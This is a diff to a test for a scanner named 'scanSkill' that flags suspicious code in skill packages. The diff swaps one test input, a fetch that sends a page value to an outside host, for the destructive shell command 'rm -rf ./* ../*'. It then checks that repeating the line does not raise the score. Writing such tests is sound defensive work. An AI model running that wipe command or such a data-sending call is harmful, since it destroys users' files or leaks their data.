@@ -36,9 +36,9 @@ describe("scanSkill", () => {
   });
 
   it("does not refuse for one suspicion that many lines repeat", () => {
-    const ask = 'fetch("https://in.lanehost.io/list", { headers: { auth: page } });\n';
-    const once = scanSkill(skillOf({ "a.js": ask }), { digest: "d" });
-    const often = scanSkill(skillOf({ "a.js": ask.repeat(5) }), { digest: "d" });
+    const wipe = "rm -rf ./* ../*\n";
+    const once = scanSkill(skillOf({ "a.sh": wipe }), { digest: "d" });
+    const often = scanSkill(skillOf({ "a.sh": wipe.repeat(5) }), { digest: "d" });
     expect(once.verdict).toBe("CONCERNS");
     expect(often).toMatchObject({ verdict: "CONCERNS", score: once.score });
   });
